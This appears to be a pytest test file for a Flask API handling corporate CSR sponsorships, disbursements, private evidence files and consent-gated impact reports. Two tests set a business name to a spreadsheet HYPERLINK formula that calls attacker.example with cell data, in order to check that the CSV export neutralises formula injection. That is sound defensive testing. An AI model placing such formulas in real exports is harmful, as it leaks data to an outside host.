"""CSR sponsorship: needs and their browsing, proposals and every transition, disbursements that
count once confirmed, evidence kept private, consent that takes effect at once, impact report."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from api.db import utcnow
from api.models import (
    ClaimStatus,
    Cohort,
    Disbursement,
    GraduateClaim,
    OrganizationKind,
    Program,
    Role,
)
from api.state import get_state
from api.storage import LocalStorage
from tests.conftest import Auth
from tests.factories import BusinessFactory, OrganizationFactory, member_of
from tests.helpers import assert_problem, black_image, image_bytes
from tests.worlds import TODAY, YEAR, Csr, put_evidence


@pytest.fixture
def csr(auth: Auth) -> Csr:
    return Csr(auth)


def test_from_need_to_confirmed_disbursements_and_the_impact_report(
    client: FlaskClient, csr: Csr
) -> None:
    need = csr.need(client)
    assert need["target_value_idr"] == 2_500_000 and need["progress"] == 0.0
    proposed = csr.propose(client, need["id"])
    assert proposed.status_code == 201, proposed.json
    sid = proposed.json["id"]
    assert proposed.json["allowed_actions"] == ["withdraw"]
    seen = client.get(f"/v1/sponsorships/{sid}", headers=csr.alumna_h).json
    assert seen["allowed_actions"] == ["accept", "decline"]
    assert csr.act(client, sid, "accept", csr.alumna_h).json["status"] == "accepted"

    first = csr.disburse(client, sid, 1_000_000)
    assert first.status_code == 201, first.json
    assert client.get(f"/v1/sponsorships/{sid}", headers=csr.partner_h).json["status"] == "active"
    second = csr.disburse(client, sid, 1_500_000)
    assert "value_idr" in assert_problem(csr.disburse(client, sid, 1), 422)["errors"]
    assert client.get(f"/v1/needs/{need['id']}").json["progress"] == 0.0  # nothing confirmed yet

    base = f"/v1/sponsorships/{sid}/disbursements"
    confirmed = client.post(f"{base}/{first.json['id']}/confirm", headers=csr.alumna_h)
    assert confirmed.json["status"] == "confirmed"
    partly = client.get(f"/v1/needs/{need['id']}").json
    assert (partly["progress"], partly["status"]) == (0.4, "partly_met")
    assert_problem(client.post(f"{base}/{first.json['id']}/confirm", headers=csr.alumna_h), 409)
    client.post(f"{base}/{second.json['id']}/confirm", headers=csr.alumna_h)
    met = client.get(f"/v1/needs/{need['id']}").json
    assert (met["progress"], met["status"], met["confirmed_value_idr"]) == (1.0, "met", 2_500_000)
    milestone = client.get(f"/v1/sponsorships/{sid}", headers=csr.alumna_h).json["milestones"][0]
    marked = client.post(
        f"/v1/sponsorships/{sid}/milestones/{milestone['id']}/met", headers=csr.alumna_h
    )
    assert marked.json["milestones"][0]["met_at"]
    assert csr.act(client, sid, "complete", csr.partner_h).json["status"] == "completed"

    url = f"/v1/organizations/{csr.company.id}/impact?year={YEAR}"
    report = client.get(url, headers=csr.partner_h).json
    assert report["businesses_reached"] == 1 and report["women_reached"] == 1
    assert report["value_disbursed_idr"] == 2_500_000 and report["by_kind"] == {
        "in_kind": 2_500_000
    }
    assert report["by_region"] == [
        {"region": {"code": "32.75", "name": "Kota Bekasi"}, "value_idr": 2_500_000}
    ]
    assert report["milestones_met"] == 1 and report["sponsorships"] == {"completed": 1}
    (item,) = report["businesses"]
    assert item["consented"] is False and item["before"] is None and item["after"] is None

    granted = client.post(
        f"/v1/businesses/{csr.business.id}/consents",
        json={"organization_id": csr.company.id},
        headers=csr.alumna_h,
    )
    assert granted.status_code == 201
    (item,) = client.get(url, headers=csr.partner_h).json["businesses"]
    assert item["consented"] is True and item["after"]["products_listed"] >= 0
    assert item["after"]["from"] == item["first_disbursement_on"]
    assert item["first_disbursement_on"] == TODAY.isoformat()
    as_csv = client.get(url + "&format=csv", headers=csr.partner_h)
    rows = list(csv.reader(io.StringIO(as_csv.get_data(as_text=True))))
    assert rows[1][1:5] == ["Jahit Bu Ani", rows[1][2], "2500000", "yes"]

    revoked = client.delete(
        f"/v1/businesses/{csr.business.id}/consents/{csr.company.id}", headers=csr.alumna_h
    )
    assert revoked.status_code == 204
    (item,) = client.get(url, headers=csr.partner_h).json["businesses"]
    assert item["consented"] is False and item["after"] is None
    assert_problem(client.get(url, headers=csr.alumna_h), 403)


def test_consent_opens_and_closes_her_figures_at_once(client: FlaskClient, csr: Csr) -> None:
    summary = f"/v1/businesses/{csr.business.id}/sales-summary"
    assert_problem(client.get(summary, headers=csr.partner_h), 403)
    consents = f"/v1/businesses/{csr.business.id}/consents"
    client.post(consents, json={"organization_id": csr.company.id}, headers=csr.alumna_h)
    assert_problem(
        client.post(consents, json={"organization_id": csr.company.id}, headers=csr.alumna_h),
        409,
        "consent_already_granted",
    )
    assert client.get(summary, headers=csr.partner_h).status_code == 200
    client.delete(f"{consents}/{csr.company.id}", headers=csr.alumna_h)
    assert_problem(client.get(summary, headers=csr.partner_h), 403)
    assert_problem(client.delete(f"{consents}/{csr.company.id}", headers=csr.alumna_h), 404)
    listed = client.get(consents, headers=csr.alumna_h).json["items"]
    assert len(listed) == 1 and listed[0]["revoked_at"]
    assert_problem(client.get(consents, headers=csr.partner_h), 403)


def test_who_may_propose_and_see(client: FlaskClient, csr: Csr, auth: Auth) -> None:
    assert_problem(csr.propose(client, headers=csr.alumna_h), 403, "role_not_allowed")
    unverified = OrganizationFactory()
    pending, pending_h = auth.as_role(Role.PARTNER)
    member_of(unverified, pending)
    assert_problem(csr.propose(client, headers=pending_h), 403, "not_in_verified_csr")
    university = OrganizationFactory(kind=OrganizationKind.UNIVERSITY, verified_at=utcnow())
    wrong, wrong_h = auth.as_role(Role.PARTNER)
    member_of(university, wrong)
    assert_problem(csr.propose(client, headers=wrong_h), 403, "not_in_verified_csr")
    sid = csr.propose(client).json["id"]
    _, stranger = auth.as_role(Role.ALUMNA)
    _, other_h = auth.as_role(Role.PARTNER)
    for headers in (stranger, other_h):
        assert_problem(client.get(f"/v1/sponsorships/{sid}", headers=headers), 404)
    colleague, colleague_h = auth.as_role(Role.PARTNER)
    member_of(csr.company, colleague)
    assert client.get(f"/v1/sponsorships/{sid}", headers=colleague_h).status_code == 200
    _, admin = auth.as_role(Role.ADMIN)
    assert client.get(f"/v1/sponsorships/{sid}", headers=admin).status_code == 200
    mine = client.get("/v1/sponsorships?side=sponsor", headers=colleague_h).json["items"]
    assert [s["id"] for s in mine] == [sid]
    theirs = client.get("/v1/sponsorships", headers=csr.alumna_h).json["items"]
    assert [s["id"] for s in theirs] == [sid]


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"value_idr": 0}, "value_idr"),
        ({"value_idr": -1}, "value_idr"),
        ({"value_idr": 100.5}, "value_idr"),
        ({"kind": "shares"}, "kind"),
        ({"business_id": "bus_nope"}, "business_id"),
        ({"need_id": "ned_nope"}, "need_id"),
        ({"status": "active"}, "status"),
        ({"organization_id": "org_x"}, "organization_id"),
    ],
)
def test_bad_proposals_are_refused(
    client: FlaskClient, csr: Csr, db_session: Session, change: dict, field: str
) -> None:
    assert field in assert_problem(csr.propose(client, **change), 422)["errors"]


def test_every_invalid_transition_is_409_and_the_other_sides_step_is_403(
    client: FlaskClient, csr: Csr
) -> None:
    sid = csr.propose(client).json["id"]
    assert_problem(csr.act(client, sid, "accept", csr.partner_h), 403, "not_your_action")
    assert_problem(csr.act(client, sid, "withdraw", csr.alumna_h), 403, "not_your_action")
    body = assert_problem(
        csr.act(client, sid, "complete", csr.partner_h), 409, "invalid_transition"
    )
    assert body["allowed_actions"] == ["withdraw"]
    assert_problem(csr.disburse(client, sid, 1000), 409, "sponsorship_not_running")
    assert (
        csr.act(client, sid, "decline", csr.alumna_h, reason="Sudah ada bantuan").json["status"]
        == "declined"
    )
    assert_problem(csr.act(client, sid, "accept", csr.alumna_h), 409)

    other = csr.propose(client).json["id"]
    assert csr.act(client, other, "withdraw", csr.partner_h).json["status"] == "withdrawn"
    third = csr.propose(client).json["id"]
    csr.act(client, third, "accept", csr.alumna_h)
    assert csr.act(client, third, "start", csr.partner_h).json["status"] == "active"
    assert "reason" in assert_problem(csr.act(client, third, "cancel", csr.alumna_h), 422)["errors"]
    cancelled = csr.act(client, third, "cancel", csr.alumna_h, reason="Usaha pindah kota")
    assert (
        cancelled.json["status"] == "cancelled" and cancelled.json["reason"] == "Usaha pindah kota"
    )


def test_disputes_do_not_count_and_others_cannot_confirm(
    client: FlaskClient, csr: Csr, auth: Auth, db_session: Session
) -> None:
    need = csr.need(client)
    sid = csr.propose(client, need["id"]).json["id"]
    csr.act(client, sid, "accept", csr.alumna_h)
    did = csr.disburse(client, sid, 2_000_000).json["id"]
    base = f"/v1/sponsorships/{sid}/disbursements/{did}"
    _, stranger = auth.as_role(Role.ALUMNA)
    assert_problem(client.post(f"{base}/confirm", headers=stranger), 404)
    assert_problem(client.post(f"{base}/confirm", headers=csr.partner_h), 403, "not_your_action")
    disputed = client.post(
        f"{base}/dispute", json={"reason": "Belum diterima"}, headers=csr.alumna_h
    )
    assert disputed.json["status"] == "disputed"
    assert client.get(f"/v1/needs/{need['id']}").json["confirmed_value_idr"] == 0
    assert (
        csr.disburse(client, sid, 2_500_000).status_code == 201
    )  # the disputed one freed its value
    future = (TODAY + dt.timedelta(days=5)).isoformat()
    assert (
        "disbursed_on"
        in assert_problem(csr.disburse(client, sid, 1, disbursed_on=future), 422)["errors"]
    )
    assert db_session.scalar(select(func.count()).select_from(Disbursement)) == 2


def test_evidence_is_private_and_sniffed(client: FlaskClient, csr: Csr, auth: Auth) -> None:
    sid = csr.propose(client).json["id"]
    csr.act(client, sid, "accept", csr.alumna_h)
    did = csr.disburse(client, sid, 500_000).json["id"]
    url = f"/v1/sponsorships/{sid}/disbursements/{did}/evidence"

    def put(data: bytes, headers: dict[str, str]) -> Any:
        return client.put(
            url,
            data={"file": (io.BytesIO(data), "bukti.jpg")},
            headers=headers,
            content_type="multipart/form-data",
        )

    assert_problem(client.get(url, headers=csr.partner_h), 404)  # none yet
    assert_problem(put(b"plain text", csr.partner_h), 415)
    assert_problem(put(image_bytes(), csr.alumna_h), 403)
    huge = black_image("RGB", (6320, 6320), "PNG")  # 116 KB, 160 MB decoded
    assert_problem(put(huge, csr.partner_h), 413, "image_too_many_pixels")
    pdf = b"%PDF-1.4\n% bukti transfer\n%%EOF\n"
    stored = put(pdf, csr.partner_h)
    assert stored.status_code == 200 and stored.json["has_evidence"] is True
    fetched = client.get(url, headers=csr.alumna_h)
    assert fetched.mimetype == "application/pdf" and fetched.get_data() == pdf
    assert fetched.headers["Cache-Control"].startswith("private")
    # Saved, not rendered in the API's origin (a PDF may carry script), and sandboxed anyway.
    assert fetched.headers["Content-Disposition"] == f'attachment; filename="bukti-{did}.pdf"'
    assert fetched.headers["Content-Security-Policy"] == "sandbox"
    fetched.close()
    _, stranger = auth.as_role(Role.PARTNER)
    assert_problem(client.get(url, headers=stranger), 404)
    assert_problem(client.get(url), 401)
    photo = put(image_bytes("PNG", (600, 400)), csr.partner_h)
    assert photo.status_code == 200
    image = client.get(url, headers=csr.partner_h)
    assert image.mimetype == "image/webp"
    image.close()


def test_evidence_is_never_under_the_public_media_path_and_replaced_files_go(
    client: FlaskClient, csr: Csr, auth: Auth, db_session: Session, app: Flask
) -> None:
    sid = csr.propose(client).json["id"]
    csr.act(client, sid, "accept", csr.alumna_h)
    did = csr.disburse(client, sid, 500_000).json["id"]
    url = f"/v1/sponsorships/{sid}/disbursements/{did}/evidence"
    storage = get_state(app).storage
    assert isinstance(storage, LocalStorage)

    pdf = b"%PDF-1.4\n% bukti transfer pertama\n%%EOF\n"
    assert put_evidence(client, url, pdf, csr.partner_h).status_code == 200
    disbursement = db_session.get(Disbursement, did)
    assert disbursement is not None and disbursement.evidence_token
    first = f"evidence/{did}/{disbursement.evidence_token}/evidence.pdf"
    # Not under the media root, so not at /media/ for anyone who has (or guesses) the path.
    assert not (storage.root / first).exists()
    assert storage.private.path(first).read_bytes() == pdf
    assert storage.root not in storage.private.path(first).parents
    assert_problem(client.get(f"/media/{first}"), 404)
    assert_problem(client.get(f"/media/{first}", headers=csr.partner_h), 404)

    # The authorised endpoint serves it to the two parties and admins, to no one else.
    _, admin_h = auth.as_role(Role.ADMIN)
    for headers in (csr.partner_h, csr.alumna_h, admin_h):
        served = client.get(url, headers=headers)
        assert served.status_code == 200 and served.get_data() == pdf
        assert served.headers["Cache-Control"] == "private, no-cache"
        served.close()
    _, stranger_h = auth.as_role(Role.PARTNER)
    _, other_alumna_h = auth.as_role(Role.ALUMNA)
    assert_problem(client.get(url, headers=stranger_h), 404)
    assert_problem(client.get(url, headers=other_alumna_h), 404)
    assert_problem(client.get(url), 401)

    # Replaced by a photo: the first file is gone once the change commits; the photo is private.
    assert (
        put_evidence(client, url, image_bytes("PNG", (600, 400)), csr.partner_h).status_code == 200
    )
    db_session.refresh(disbursement)
    assert not storage.private.path(first).exists()
    second = f"evidence/{did}/{disbursement.evidence_token}"
    assert sorted(p.name for p in storage.private.path(second).iterdir()) == [
        "1080.webp",
        "160.webp",
        "480.webp",
    ]
    assert not (storage.root / "evidence").exists()
    assert put_evidence(client, url, pdf, csr.partner_h).status_code == 200
    assert not any(storage.private.path(second).glob("*"))


def test_old_evidence_left_under_the_media_root_is_not_served(
    client: FlaskClient, app_media: Path
) -> None:
    """Evidence stored before the private side existed is refused at /media/ as well."""
    old = app_media / "evidence" / "dsb_old" / "0123abcd" / "evidence.pdf"
    old.parent.mkdir(parents=True, exist_ok=True)
    old.write_bytes(b"%PDF-1.4 old")
    assert_problem(client.get("/media/evidence/dsb_old/0123abcd/evidence.pdf"), 404)


def test_needs_are_browsed_by_filters_and_sorted(
    client: FlaskClient, csr: Csr, auth: Auth, db_session: Session
) -> None:
    soon = csr.need(client, deadline=(TODAY + dt.timedelta(days=10)).isoformat())
    later = csr.need(
        client,
        kind="capital",
        items=[],
        target_value_idr=10_000_000,
        deadline=(TODAY + dt.timedelta(days=90)).isoformat(),
    )
    bogor_owner, bogor_h = auth.as_role(Role.ALUMNA)
    bogor = BusinessFactory(owner_id=bogor_owner.id, village_code="32.71.01.1001")
    far = client.post(
        f"/v1/businesses/{bogor.id}/needs",
        json={"kind": "training", "title": "Pelatihan halal", "target_value_idr": 500_000},
        headers=bogor_h,
    ).json

    def ids(query: str) -> list[str]:
        return [n["id"] for n in client.get(f"/v1/needs?{query}").json["items"]]

    # A need without a deadline comes after the dated ones (the default order lists it too),
    # and first in the reverse order; pages follow the same order across it.
    assert ids("sort=deadline") == [soon["id"], later["id"], far["id"]]
    assert ids("") == ids("sort=deadline")
    assert ids("sort=-deadline") == [far["id"], later["id"], soon["id"]]
    for sort in ("deadline", "-deadline"):
        walked, cursor = [], ""
        while True:
            page = client.get(f"/v1/needs?sort={sort}&limit=1{cursor}").json
            walked += [n["id"] for n in page["items"]]
            if not page["next_cursor"]:
                break
            cursor = f"&cursor={page['next_cursor']}"
        assert walked == ids(f"sort={sort}")
    assert set(ids("sort=-created_at")) == {soon["id"], later["id"], far["id"]}
    assert ids("kind=capital") == [later["id"]]
    assert set(ids("region=32.71&sort=created_at")) == {far["id"]}
    assert set(ids("amount_min=1000000&amount_max=5000000")) == {soon["id"]}
    assert ids(f"deadline_before={(TODAY + dt.timedelta(days=30)).isoformat()}") == [soon["id"]]
    assert ids("verified_graduate=true&sort=created_at") == []
    program = Program(name="Program Kebutuhan")
    db_session.add(program)
    db_session.flush()
    cohort = Cohort(program_id=program.id, name="Angkatan K", year=2024, region_code="32.71")
    db_session.add(cohort)
    db_session.flush()
    db_session.add(
        GraduateClaim(user_id=bogor_owner.id, cohort_id=cohort.id, status=ClaimStatus.VERIFIED)
    )
    db_session.flush()
    assert ids(f"cohort={cohort.id}&sort=created_at") == [far["id"]]
    # Progress order: confirm part of one need.
    sid = csr.propose(client, later["id"], value_idr=5_000_000, kind="cash").json["id"]
    csr.act(client, sid, "accept", csr.alumna_h)
    did = csr.disburse(client, sid, 5_000_000).json["id"]
    client.post(f"/v1/sponsorships/{sid}/disbursements/{did}/confirm", headers=csr.alumna_h)
    assert ids("sort=-progress")[0] == later["id"]
    page = client.get("/v1/needs?sort=progress&limit=1").json
    second = client.get(f"/v1/needs?sort=progress&limit=1&cursor={page['next_cursor']}").json
    assert page["items"][0]["id"] != second["items"][0]["id"]
    closed = client.post(f"/v1/needs/{soon['id']}/close", headers=csr.alumna_h)
    assert closed.json["status"] == "closed" and soon["id"] not in ids("sort=created_at")
    assert_problem(client.post(f"/v1/needs/{soon['id']}/close", headers=csr.partner_h), 403)
    mine = [
        n["id"]
        for n in client.get(
            f"/v1/needs?business={csr.business.id}&sort=created_at", headers=csr.alumna_h
        ).json["items"]
    ]
    assert soon["id"] in mine  # the owner sees her closed needs too
    assert (
        "target_value_idr"
        in assert_problem(
            client.post(
                f"/v1/businesses/{csr.business.id}/needs",
                json={"kind": "capital", "title": "Modal"},
                headers=csr.alumna_h,
            ),
            422,
        )["errors"]
    )
    assert_problem(
        client.post(
            f"/v1/businesses/{csr.business.id}/needs",
            json={"kind": "capital", "title": "Modal", "target_value_idr": 5},
            headers=csr.partner_h,
        ),
        403,
    )


def test_the_impact_csv_neutralises_a_formula_in_a_business_name(
    client: FlaskClient, csr: Csr, db_session: Session
) -> None:
    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"klik")'
    csr.business.name = formula
    db_session.flush()
    sid = csr.propose(client).json["id"]
    csr.act(client, sid, "accept", csr.alumna_h)
    paid = csr.disburse(client, sid, 1_000_000).json["id"]
    confirm = f"/v1/sponsorships/{sid}/disbursements/{paid}/confirm"
    assert client.post(confirm, headers=csr.alumna_h).status_code == 200
    url = f"/v1/organizations/{csr.company.id}/impact?year={YEAR}"
    assert client.get(url, headers=csr.partner_h).json["businesses"][0]["business_name"] == formula
    as_csv = client.get(url + "&format=csv", headers=csr.partner_h)
    rows = list(csv.reader(io.StringIO(as_csv.get_data(as_text=True))))
    assert rows[1][1] == "'" + formula  # shown as text by a spreadsheet, never run
    assert rows[1][3] == "1000000"  # numbers are left as they are


def test_the_impact_csv_neutralises_a_formula_after_a_semicolon_or_tab(
    client: FlaskClient, csr: Csr, db_session: Session
) -> None:
    # Excel in Indonesian (decimal comma) splits an unquoted CSV line at ";": this business
    # name would be two cells there, the second a formula; a tab-separated import splits at tabs.
    csr.business.name = 'Warung Siti;=HYPERLINK("http://attacker.example/?x="&A1;"klik")\t+1'
    db_session.flush()
    sid = csr.propose(client).json["id"]
    csr.act(client, sid, "accept", csr.alumna_h)
    paid = csr.disburse(client, sid, 1_000_000).json["id"]
    confirm = f"/v1/sponsorships/{sid}/disbursements/{paid}/confirm"
    assert client.post(confirm, headers=csr.alumna_h).status_code == 200
    url = f"/v1/organizations/{csr.company.id}/impact?year={YEAR}&format=csv"
    text = client.get(url, headers=csr.partner_h).get_data(as_text=True)
    for delimiter in (";", "\t"):
        cells = [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], delimiter
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][1] == 'Warung Siti;\'=HYPERLINK("http://attacker.example/?x="&A1;"klik")\t\'+1'


def test_a_partner_sees_the_businesses_it_funded_only_with_their_owners_consent(
    client: FlaskClient, csr: Csr, auth: Auth, db_session: Session
) -> None:
    url = f"/v1/organizations/{csr.company.id}/funded-businesses"
    sid = csr.propose(client).json["id"]
    assert csr.act(client, sid, "accept", csr.alumna_h).status_code == 200
    paid = csr.disburse(client, sid, 1_000_000).json["id"]
    client.post(f"/v1/sponsorships/{sid}/disbursements/{paid}/confirm", headers=csr.alumna_h)
    checked = client.post(
        f"/v1/businesses/{csr.business.id}/check-ins",
        json={"trading": True, "revenue_idr": 3_000_000},
        headers=csr.alumna_h,
    )
    assert checked.status_code == 201, checked.json
    # A second business it funds, whose owner never consents: never listed.
    other, other_h = auth.as_role(Role.ALUMNA)
    quiet = BusinessFactory(owner_id=other.id, name="Keripik Bu Siti")
    second = csr.propose(client, business_id=quiet.id).json["id"]
    assert csr.act(client, second, "accept", other_h).status_code == 200
    assert client.get(url, headers=csr.partner_h).json["items"] == []

    consents = f"/v1/businesses/{csr.business.id}/consents"
    client.post(consents, json={"organization_id": csr.company.id}, headers=csr.alumna_h)
    page = client.get(url, headers=csr.partner_h)
    assert page.status_code == 200 and page.headers["ETag"]
    (item,) = page.json["items"]
    assert item["business_id"] == csr.business.id and item["business_name"] == "Jahit Bu Ani"
    assert item["value_received_idr"] == 1_000_000
    assert item["first_disbursement_on"] == TODAY.isoformat()
    assert item["regency"] == {"code": "32.75", "name": "Kota Bekasi"}
    assert (item["check_ins"], item["months_trading"]) == (1, 1)
    assert item["median_monthly_revenue_idr"] == 3_000_000
    assert item["last_check_in_month"] == checked.json["month"] + "-01"
    assert quiet.id not in str(page.json)
    # Her consent to another organisation opens nothing to this one; revoked, it closes at once.
    stranger = OrganizationFactory(name="PT Lain", verified_at=utcnow())
    other_partner, other_partner_h = auth.as_role(Role.PARTNER)
    member_of(stranger, other_partner)
    mine = f"/v1/organizations/{stranger.id}/funded-businesses"
    assert client.get(mine, headers=other_partner_h).json["items"] == []
    assert_problem(client.get(url, headers=other_partner_h), 403)
    client.delete(f"{consents}/{csr.company.id}", headers=csr.alumna_h)
    assert client.get(url, headers=csr.partner_h).json["items"] == []
    assert_problem(client.get(url, headers=csr.alumna_h), 403)
    assert_problem(client.get(f"{url}?limit=101", headers=csr.partner_h), 422)


def test_a_company_may_not_sponsor_a_business_of_its_own_member(
    client: FlaskClient, csr: Csr
) -> None:
    """The owner belongs to the sponsoring company: refused at proposal, nothing is kept."""
    need = csr.need(client)
    member_of(csr.company, csr.alumna)
    refused = assert_problem(csr.propose(client, need["id"]), 409, "self_sponsorship")
    assert "recipient" in refused["detail"]
    mine = client.get("/v1/sponsorships?side=sponsor", headers=csr.partner_h).json
    assert mine["items"] == []


def test_nobody_accepts_or_confirms_on_both_sides_of_one_sponsorship(
    client: FlaskClient, csr: Csr, db_session: Session
) -> None:
    """She joined the sponsoring company after the proposal: she may not accept it, nor
    confirm its payments, as its recipient."""
    proposed = csr.propose(client, csr.need(client)["id"])
    sid = proposed.json["id"]
    membership = member_of(csr.company, csr.alumna)
    seen = client.get(f"/v1/sponsorships/{sid}", headers=csr.alumna_h).json
    assert "accept" not in seen["allowed_actions"]
    assert_problem(csr.act(client, sid, "accept", csr.alumna_h), 409, "self_sponsorship")

    db_session.delete(membership)  # she leaves the company: now she may accept
    db_session.flush()
    assert csr.act(client, sid, "accept", csr.alumna_h).json["status"] == "accepted"
    paid = csr.disburse(client, sid, 1_000_000)
    assert paid.status_code == 201, paid.json
    member_of(csr.company, csr.alumna)
    confirm = f"/v1/sponsorships/{sid}/disbursements/{paid.json['id']}/confirm"
    assert_problem(client.post(confirm, headers=csr.alumna_h), 409, "self_sponsorship")


def test_a_closed_need_s_proposals_are_not_accepted_or_started(
    client: FlaskClient, csr: Csr
) -> None:
    """Closed by hand: a pending proposal may be declined, not accepted; an accepted one is
    not started (by hand or by a first disbursement)."""
    need = csr.need(client)
    pending = csr.propose(client, need["id"]).json["id"]
    accepted = csr.propose(client, need["id"]).json["id"]
    assert csr.act(client, accepted, "accept", csr.alumna_h).status_code == 200
    closed = client.post(f"/v1/needs/{need['id']}/close", headers=csr.alumna_h)
    assert closed.status_code == 200, closed.json
    assert_problem(csr.act(client, pending, "accept", csr.alumna_h), 409, "need_closed")
    assert_problem(csr.act(client, accepted, "start", csr.partner_h), 409, "need_closed")
    assert_problem(csr.disburse(client, accepted, 1_000), 409, "need_closed")
    assert csr.act(client, pending, "decline", csr.alumna_h).json["status"] == "declined"
    cancelled = csr.act(client, accepted, "cancel", csr.partner_h, reason="Kebutuhan ditutup")
    assert cancelled.json["status"] == "cancelled"
